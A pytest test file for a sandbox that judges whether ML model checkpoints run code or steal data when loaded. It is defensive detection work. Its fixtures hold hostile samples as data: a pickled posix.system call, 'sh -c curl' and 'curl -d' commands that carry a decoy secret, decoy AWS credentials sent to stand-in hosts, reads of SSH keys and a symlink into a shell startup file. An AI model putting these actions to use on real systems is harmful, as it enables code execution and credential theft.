"""The verdict: its order, what completeness does to it, and that nothing added ever improves it."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from dataclasses import replace
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sandbox.facts import Artifact, Comparison, Conversation, Event, Evidence, Oddity, Verdict
from sandbox.judge import judge
from sandbox.judge.needles import Needles
from sandbox.judge.verdict import MAX_EVIDENCE, WORST_FIRST
from tests.judge.rows import (
    CLEAN,
    DYNAMIC,
    ENDED,
    READ_ONLY,
    RULES,
    SECRET,
    STATIC,
    compared,
    dynamic,
    event,
    events,
    host,
    static,
    use,
    uses,
)

EXEC = event("process.exec", "execve", path="/bin/sh", argv="sh -c 'curl x'")
WRITE = event("file.write", "openat", path="/tmp/x")
KINDS = sorted({kind for row in RULES.rows for kind in getattr(row.when, "kinds", ()) if "*" not in kind})


def rank(evidence: Evidence) -> int:
    return WORST_FIRST.index(judge(evidence, RULES).verdict)


def test_an_ordinary_checkpoint_is_clean() -> None:
    judgement = judge(CLEAN, RULES)
    assert judgement.verdict is Verdict.CLEAN
    assert judgement.summary == "Ordinary checkpoint: 3 tensors, nothing in it can run code."
    assert judgement.completeness.complete
    assert judgement.reasons == ()
    assert any("weights that were trained to misbehave" in line for line in judgement.not_examined)


@pytest.mark.parametrize(("tensors", "told"), [(0, "no tensors"), (1, "1 tensor"), (2, "2 tensors")])
def test_the_summary_counts(tensors: int, told: str) -> None:
    assert judge(compared(agree=tensors), RULES).summary == f"Ordinary checkpoint: {told}, nothing in it can run code."


def test_reading_alone_is_never_clean() -> None:
    judgement = judge(READ_ONLY, RULES)
    assert judgement.verdict is Verdict.UNEXECUTED
    assert judgement.summary == "Read but not loaded: nothing in it can run code."
    assert "What the file does when it is loaded: it was only read." in judgement.not_examined


def test_reading_alone_finds_what_the_file_names() -> None:
    evidence = replace(READ_ONLY, static=replace(STATIC, globals=(use("posix.system", arguments="('id',)"),)))
    judgement = judge(evidence, RULES)
    assert judgement.verdict is Verdict.MALICIOUS
    assert judgement.summary == "This file calls `posix.system('id',)`, which starts programs, when it is loaded."
    assert judgement.findings[0].evidence == ("data.pkl offset 0x1f: REDUCE posix.system('id',)",)


def test_what_was_seen_comes_first_in_the_summary() -> None:
    evidence = replace(uses(use("posix.system", arguments="('curl x',)")), dynamic=events(EXEC).dynamic)
    assert judge(evidence, RULES).summary == "This file runs `sh -c 'curl x'` when it is loaded."


@pytest.mark.parametrize(
    ("evidence", "verdict"),
    [
        (events(EXEC, WRITE, event("limit.time")), Verdict.MALICIOUS),
        (events(WRITE, event("limit.time")), Verdict.SUSPICIOUS),
        (events(event("limit.time")), Verdict.INCONCLUSIVE),
        (dynamic(loaded=False, load_error="UnpicklingError: bad", events=(EXEC,)), Verdict.MALICIOUS),
        (dynamic(loaded=False, load_error="AttributeError: no Net"), Verdict.INCONCLUSIVE),
        (dynamic(ended=False), Verdict.MALICIOUS),
        (host(wire="a frame of 4 GB"), Verdict.MALICIOUS),
    ],
)
def test_order(evidence: Evidence, verdict: Verdict) -> None:
    judgement = judge(evidence, RULES)
    assert judgement.verdict is verdict
    assert judgement.reasons


def test_a_load_error_is_told_with_its_reason() -> None:
    judgement = judge(dynamic(loaded=False, load_error="AttributeError: no Net"), RULES)
    assert judgement.completeness.missing == ("The load stopped with an error: AttributeError: no Net.",)
    assert judgement.summary == "Could not be judged: The load stopped with an error: AttributeError: no Net."


def test_the_cause_is_said_before_what_it_led_to() -> None:
    stopped = dynamic(armed=False, loaded=None, events=(event("limit.time", value="60"),))
    assert judge(stopped, RULES).summary.startswith("Could not be judged: It was stopped after 60 seconds;")


@pytest.mark.parametrize(("name", "told"), [("torchscript", "TorchScript"), ("torch-export", "torch.export")])
def test_a_program_is_not_said_to_be_without_code(name: str, told: str) -> None:
    formats = (replace(STATIC.formats[0], name=name),)
    words = f"with a {told} program whose code was searched and not run."
    assert judge(static(formats=formats), RULES).summary == f"Ordinary checkpoint: 3 tensors, {words}"
    unloaded = replace(READ_ONLY, static=replace(STATIC, formats=formats))
    assert judge(unloaded, RULES).summary == f"Read but not loaded: {words}"


def test_an_unsupported_format_is_named() -> None:
    torchscript = replace(STATIC.formats[0], name="torchscript", supported=False)
    judgement = judge(static(formats=(torchscript,)), RULES)
    assert judgement.verdict is Verdict.INCONCLUSIVE
    assert "TorchScript archive: not supported yet." in judgement.completeness.missing


def test_evidence_is_capped_and_counted() -> None:
    judgement = judge(compared(differ=tuple(f"w{at}" for at in range(100))), RULES)
    finding = judgement.findings[0]
    assert len(finding.evidence) == MAX_EVIDENCE + 1
    assert finding.evidence[-1] == "and 92 more"
    assert finding.explanation.startswith("100 tensor(s), such as w0,")


def test_hostile_text_stays_data() -> None:
    hostile = "{subject.__class__} {0} \x1b[31m %s"
    judgement = judge(events(event("process.exec", "execve", argv=hostile)), RULES)
    assert hostile in judgement.summary
    assert hostile in judgement.findings[0].evidence[0]


def test_a_long_text_is_cut() -> None:
    judgement = judge(events(event("process.exec", "execve", argv="x" * 4000)), RULES)
    assert len(judgement.summary) < 300
    assert all(len(line) <= 400 for finding in judgement.findings for line in finding.evidence)


def test_kinds_that_were_only_counted_are_judged() -> None:
    judgement = judge(dynamic(counts={"net.connect": 9, "file.read": 3}, dropped=9), RULES)
    assert judgement.verdict is Verdict.MALICIOUS
    assert judgement.findings[0].evidence == ("net.connect: 9 counted, no row of them arrived",)


@pytest.mark.parametrize("spelled", [SECRET, SECRET.lower(), SECRET[::-1], SECRET.encode().hex()])
@pytest.mark.parametrize("where", ["name", "argv", "value", "path"])
def test_a_planted_secret_is_found_wherever_it_goes(spelled: str, where: str) -> None:
    found = judge(events(event("net.dns", "sendto", **{where: f"a{spelled}.example.invalid"})), RULES).findings
    assert "decoy.sent" in {finding.rule for finding in found}


@pytest.mark.parametrize("lead", ["", "a", "ab", "abc"])
def test_a_planted_secret_is_found_in_base64(lead: str) -> None:
    text = base64.b64encode(f"{lead}{SECRET}{lead}".encode()).decode()
    found = judge(events(event("net.send", "sendto", value=f"POST /{text}")), RULES).findings
    assert "decoy.sent" in {finding.rule for finding in found}


SPELLED = {
    "url": quote(SECRET + "+/", safe=""),
    "percents": "".join(f"%{byte:02X}" for byte in SECRET.encode()),
    "UTF-16": SECRET.encode("utf-16-le").decode(),
    "UTF-16, big": SECRET.encode("utf-16-be").decode(),
    "base32": base64.b32encode(b"ab" + SECRET.encode() + b"c").decode(),
}
SAID = Conversation(3, 7, 1.0, "tcp", "203.0.113.9", 80, "drop.example", "http", b"", 0, b"", 0)
KEPT = Artifact("/tmp/loot", "left", 0o600, 0, "", b"")


def where_it_went(found: str) -> list[Evidence]:
    """The text in a conversation, in a name that was asked for, in a file and in what was printed."""
    raw = b"\xff\0" * 5 + found.encode()
    return [
        dynamic(conversations=(SAID, replace(SAID, sent=raw))),
        dynamic(artifacts=(KEPT, replace(KEPT, content=raw))),
        events(event("net.send", "sendto", value=found)),
        dynamic(printed=(("stdout", "ab" + found, 99),)),
    ]


@pytest.mark.parametrize("spelled", SPELLED)
@pytest.mark.parametrize("place", range(4))
def test_a_planted_secret_is_found_in_every_spelling_and_place(spelled: str, place: int) -> None:
    found = judge(where_it_went(SPELLED[spelled])[place], RULES).findings
    assert ("decoy.printed" if place == 3 else "decoy.sent") in {finding.rule for finding in found}


def test_what_was_sent_and_what_was_kept_are_named() -> None:
    sent, kept, *_ = where_it_went(SECRET)
    (finding,) = judge(sent, RULES).findings
    assert finding.evidence == ("conversation 3: drop.example:80: holds AWS credentials",)
    assert "(drop.example:80)" in finding.explanation
    (finding,) = judge(kept, RULES).findings
    assert finding.evidence == ("file /tmp/loot: holds AWS credentials",)


def test_the_host_s_own_look_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sandbox.judge.second_look._MOST_SEARCHED", 1000)
    long, hit = replace(SAID, sent=bytes(1000)), replace(SAID, sent=SECRET.encode())
    assert judge(dynamic(conversations=(hit, long)), RULES).findings
    assert not judge(dynamic(conversations=(long, hit)), RULES).findings


def test_what_still_stands_where_it_was_planted_is_no_theft() -> None:
    changed = dynamic(artifacts=(replace(KEPT, path="/home/user/.aws/credentials", content=SECRET.encode()),))
    there = replace(changed, planted={"/home/user/.aws/credentials": "AWS credentials"})
    elsewhere = replace(changed, planted={"/home/user/.netrc": "AWS credentials"})
    assert not judge(there, RULES).findings
    assert judge(elsewhere, RULES).findings


def test_a_planted_tools_word_holds_its_environment_and_is_no_theft() -> None:
    word = replace(SAID, address="192.0.2.1", port=9, sent=b'{"environment": {"KEY": "%s"}}' % SECRET.encode())
    assert not judge(dynamic(conversations=(word,)), RULES).findings
    assert not judge(dynamic(conversations=(replace(word, address="::ffff:192.0.2.1"),)), RULES).findings
    assert judge(dynamic(conversations=(replace(word, port=80),)), RULES).findings
    run = event("process.exec", "execve", path="/usr/bin/curl", argv=f"curl -d {SECRET} x")
    found = judge(dynamic(events=(run,), conversations=(word,)), RULES).findings
    assert "decoy.sent" in {finding.rule for finding in found}


def test_a_theft_that_the_finder_told_is_told_once() -> None:
    carried = (replace(SAID, sent=SECRET.encode()),)
    sent = event("decoy.sent", "finder", name="AWS credentials", address="203.0.113.9", port="80", value="plain")
    asked = event("net.dns", "sendto", name=f"{SECRET}.example.invalid")
    kept = (replace(KEPT, content=SECRET.encode()),)
    found = judge(dynamic(events=(sent, asked), conversations=carried, artifacts=kept), RULES).findings
    assert {finding.rule for finding in found} == {"event.exfiltration", "event.dns"}
    other = replace(sent, detail=sent.detail | {"name": "another"})
    found = judge(dynamic(events=(other,), conversations=carried), RULES).findings
    assert {finding.rule for finding in found} == {"event.exfiltration", "decoy.sent"}
    written = event("decoy.written", "finder", name="AWS credentials", path="/tmp/loot")
    found = judge(dynamic(events=(written,), artifacts=kept), RULES).findings
    assert {finding.rule for finding in found} == {"event.exfiltration.collected"}
    found = judge(dynamic(events=(written,), conversations=carried), RULES).findings
    assert "decoy.sent" in {finding.rule for finding in found}
    run = event("process.exec", "execve", path="/usr/bin/curl", argv=f"curl -d {SECRET} x")
    found = judge(dynamic(events=(sent, run)), RULES).findings
    assert "decoy.sent" in {finding.rule for finding in found}


def test_a_text_that_shares_no_block_with_a_secret_is_searched_for_none_of_them(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """However many there are, 16 MiB are gone through once."""
    sought: list[list[object]] = []
    candidates = Needles._candidates

    def noted(self: Needles, text: bytes) -> Iterator[tuple[bytes, str]]:
        sought.append(list(candidates(self, text)))
        yield from sought[-1]  # type: ignore[misc]

    monkeypatch.setattr(Needles, "_candidates", noted)
    decoys = {f"decoy {at}": f"{at:04}" + SECRET for at in range(40)}
    long = (replace(KEPT, content=bytes(range(256)) * (1 << 14)),) * 4
    assert not judge(replace(dynamic(artifacts=long), decoys=decoys), RULES).findings
    assert len(sought) >= len(long)
    assert not any(sought)


@pytest.mark.parametrize(
    ("row", "line", "subject"),
    [
        (
            event("decoy.sent", "search", name="AWS credentials", address="203.0.113.9", port="80", value="base64"),
            "event 1: search the decoy AWS credentials to 203.0.113.9:80 (denied), base64",
            "exfiltration of the decoy AWS credentials to 203.0.113.9:80",
        ),
        (
            event("decoy.sent", "search", name="AWS credentials", address="2001:db8::1"),
            "event 1: search the decoy AWS credentials to 2001:db8::1 (denied)",
            "exfiltration of the decoy AWS credentials to 2001:db8::1",
        ),
        (
            event("decoy.sent", "search", name="AWS credentials", value="plain"),
            "event 1: search the decoy AWS credentials (denied), plain",
            "exfiltration of the decoy AWS credentials.",
        ),
        (
            event("decoy.written", "search", name="AWS credentials", path="/tmp/x", value="gzip, base64"),
            "event 1: search AWS credentials (/tmp/x) (denied), gzip, base64",
            "the decoy AWS credentials (/tmp/x)",
        ),
    ],
)
def test_a_theft_names_what_and_where_to(row: Event, line: str, subject: str) -> None:
    (finding,) = judge(events(row), RULES).findings
    assert finding.evidence == (line,)
    assert subject in finding.explanation


def test_a_theft_comes_first_and_names_the_conversation() -> None:
    away = {"address": "198.51.100.54", "port": "80"}
    rows = [
        event("net.connect", "connect", name="collect.example", **away),
        event("decoy.sent", "finder", name="AWS credentials", value="gzip", host="collect.example", at=41, **away),
    ]
    talk = replace(SAID, address="198.51.100.54", name="collect.example", sent=b"POST /up -> x HTTP/1.1\r\nHost: y\r\n")
    judgement = judge(dynamic(events=tuple(rows), conversations=(talk,)), RULES)
    assert judgement.summary.endswith("exfiltration of the decoy AWS credentials to collect.example:80.")
    theft, connect = judgement.findings
    line = "event 41: finder the decoy AWS credentials to collect.example:80 (denied), gzip; conversation 3: POST /up"
    assert theft.evidence == (line + " \ufffd x HTTP/1.1",)
    assert connect.evidence == ("event 1: connect collect.example:80 (denied)",)


@pytest.mark.parametrize(
    ("path", "argv", "shown"),
    [
        ("/bin/sh", "sh -c id", "sh -c id"),
        ("/usr/bin/sh", "/bin/sh -c id", "/bin/sh -c id"),
        ("./x", "./x a", "./x a"),
        ("/bin/sh", "ls", "/bin/sh (calls itself ls)"),
        ("/bin/sh", "'my ls' -c 'a b'", "/bin/sh (calls itself 'my ls') -c 'a b'"),
        ("/bin/sh", "'' -c id", "/bin/sh (calls itself '') -c id"),
        ("/tmp/ls", "ls -l", "/tmp/ls (calls itself ls) -l"),
        ("/tmp/ls", "/bin/ls", "/tmp/ls (calls itself /bin/ls)"),
        ("/tmp/a b", "", "'/tmp/a b'"),
        ("/bin/sh", "'cut", "/bin/sh (calls itself ''\"'\"'cut')"),
        ("", "ls", "ls"),
    ],
)
def test_a_program_is_told_by_what_runs(path: str, argv: str, shown: str) -> None:
    summary = judge(events(event("process.exec", "execve", path=path, argv=argv)), RULES).summary
    assert summary == f"This file runs `{shown}` when it is loaded."


def test_a_link_stays_where_it_is_made() -> None:
    linked = event("file.link", "symlink", path="/usr/bin/python3", target="/tmp/venv/python")
    assert judge(events(linked), RULES).findings[0].rule == "event.write"
    planted = event("file.link", "symlink", path="/tmp/x", target="/home/user/.zshenv")
    finding = judge(events(planted), RULES).findings[0]
    assert finding.rule == "event.persistence.target"
    assert "(/home/user/.zshenv)" in finding.explanation
    assert finding.evidence == ("event 1: symlink /tmp/x -> /home/user/.zshenv (denied)",)


def test_evidence_draws_no_arrows() -> None:
    rows = event("file.rename", "rename", path="/tmp/a -> /home/user/.bashrc", target="/tmp/b")
    finding = judge(events(rows), RULES).findings[0]
    assert finding.evidence[0].count(" -> ") == 1
    written = event("file.write", "openat", path="/tmp/a (denied)", answer="continued")
    assert judge(events(written), RULES).findings[0].evidence == ("event 1: openat '/tmp/a (denied)' (continued)",)


def test_all_addresses_are_told_in_one_line() -> None:
    rows = [event("net.connect", "connect", address=f"203.0.113.{at}", port="80", at=at) for at in range(1, 31)]
    (finding,) = judge(events(*rows), RULES).findings
    assert finding.evidence[0].startswith("30 addresses: 203.0.113.1:80, 203.0.113.2:80, ")
    assert finding.evidence[0].endswith("203.0.113.20:80 and 10 more")
    assert len(finding.evidence) == MAX_EVIDENCE + 2


def test_a_sweep_counts_files_and_not_openings() -> None:
    rows = [event("home.read", "inotify", path=f"/home/user/{at}", count=50, at=at + 1) for at in range(12)]
    (finding,) = judge(events(*rows), RULES).findings
    assert finding.rule == "event.home.sweep"
    assert "opened 12 or more of the user's files, such as /home/user/0." in finding.explanation
    (finding,) = judge(dynamic(counts={"home.read": 30}), RULES).findings
    assert finding.rule == "event.home.sweep"


def test_a_short_decoy_is_no_proof() -> None:
    evidence = replace(events(event("net.send", "sendto", value="user")), decoys={"name": "user"})
    assert "decoy.sent" not in {finding.rule for finding in judge(evidence, RULES).findings}


# What can come on top of any evidence.
EVENTS = st.builds(
    event,
    st.sampled_from([*KINDS, "escape.mount", "new.kind"]),
    st.sampled_from(["openat", "uname", "vhangup", "connect"]),
    count=st.integers(1, 5000),
    at=st.integers(1, 9),
    path=st.sampled_from(["/usr/lib/x", "/home/user/.ssh/id_rsa", "/tmp/x", "/dev/null", ""]),
    value=st.sampled_from(["0.001", "60", SECRET, ""]),
)
NAMED = ["os.system", "functools.partial", "pkg.f", "pkg.Net", "builtins.map", "builtins.getattr", "torch.device"]
NAMED += ["copyreg._reconstructor", "cloudpickle.cloudpickle._builtin_type", "a.__globals__", "collections.deque"]
USES = st.builds(
    use,
    st.sampled_from(NAMED),
    st.sampled_from(
        [
            "reference",
            "reduce",
            "newobj",
            "obj",
            "inst",
            "build",
            "extend",
            "extension",
            "persistent",
            "subtype",
            "change",
        ]
    ),
    st.sampled_from(["", "()", "('relu',)", "(pkg.Kind, 'EPOCH')", "('x', 1)"]),
    indirect=st.booleans(),
    count=st.integers(1, 3),
)
ODDITIES = st.builds(
    Oddity, st.just("pickle"), st.sampled_from(["zip.duplicate", "a.nested"]), st.just("d"), st.just("r"), st.just(0)
)
NAMES = st.lists(st.sampled_from("abc"), max_size=3, unique=True).map(tuple)
COMPARISONS = st.builds(Comparison, st.integers(0, 3), NAMES, NAMES, NAMES)
EVIDENCE = st.builds(
    lambda rows, found, odd, told, changes: Evidence(
        replace(STATIC, globals=tuple(found), oddities=tuple(odd)),
        replace(DYNAMIC, events=tuple(rows), **changes),
        told,
        CLEAN.host,
        CLEAN.decoys,
    ),
    st.lists(EVENTS, max_size=3),
    st.lists(USES, max_size=3),
    st.lists(ODDITIES, max_size=2),
    COMPARISONS,
    st.sampled_from([{}, {"loaded": False}, {"loaded": None}, {"armed": False}, {"asked": False}]),
)

Change = dict[str, Any]
WORSE: list[Change] = [
    {"ended": False},
    {"observer_outlived_loader": False},
    {"dropped": 5},
    {"unreadable": 5},
    {"decoy_overflow": 1},
    {"end": replace(ENDED, alive=("sh",))},
    {"counts": {"net.connect": 4}},
    {"loaded": None},
]


@given(EVIDENCE, EVENTS)
def test_an_event_never_improves_the_verdict(evidence: Evidence, more: Any) -> None:
    longer = replace(evidence.dynamic, events=(*evidence.dynamic.events, more))
    assert rank(replace(evidence, dynamic=longer)) <= rank(evidence)


@given(EVIDENCE, USES, st.booleans())
def test_a_use_never_improves_the_verdict(evidence: Evidence, more: Any, first: bool) -> None:
    found = (more, *evidence.static.globals) if first else (*evidence.static.globals, more)
    assert rank(replace(evidence, static=replace(evidence.static, globals=found))) <= rank(evidence)


@given(EVIDENCE, ODDITIES)
def test_an_oddity_never_improves_the_verdict(evidence: Evidence, more: Oddity) -> None:
    longer = replace(evidence.static, oddities=(*evidence.static.oddities, more))
    assert rank(replace(evidence, static=longer)) <= rank(evidence)


@given(EVIDENCE, st.sampled_from(WORSE))
def test_losing_the_watch_never_improves_the_verdict(evidence: Evidence, change: Change) -> None:
    if evidence.dynamic.loaded:
        assert rank(replace(evidence, dynamic=replace(evidence.dynamic, **change))) <= rank(evidence)


@given(EVIDENCE)
def test_an_unread_file_is_never_clean(evidence: Evidence) -> None:
    cut = replace(evidence, static=replace(evidence.static, complete=False, reason="cut off"))
    assert rank(cut) <= WORST_FIRST.index(Verdict.INCONCLUSIVE)


@given(EVIDENCE)
def test_the_same_evidence_gives_the_same_judgement(evidence: Evidence) -> None:
    assert judge(evidence, RULES) == judge(evidence, RULES)
